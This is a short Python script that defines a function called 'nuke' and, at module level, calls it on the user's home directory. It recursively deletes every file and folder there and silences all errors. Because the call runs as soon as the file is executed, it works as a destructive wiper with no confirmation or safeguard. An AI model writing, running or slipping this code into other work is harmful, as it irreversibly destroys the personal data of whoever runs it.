from pathlib import Path

def nuke(base: Path):
    for p in sorted(base.rglob("*"), key=lambda x: len(x.parts), reverse=True):
        try:
            if p.is_dir():
                p.rmdir()
            else:
                p.unlink()
        except OSError:
            pass

nuke(Path("~").expanduser())
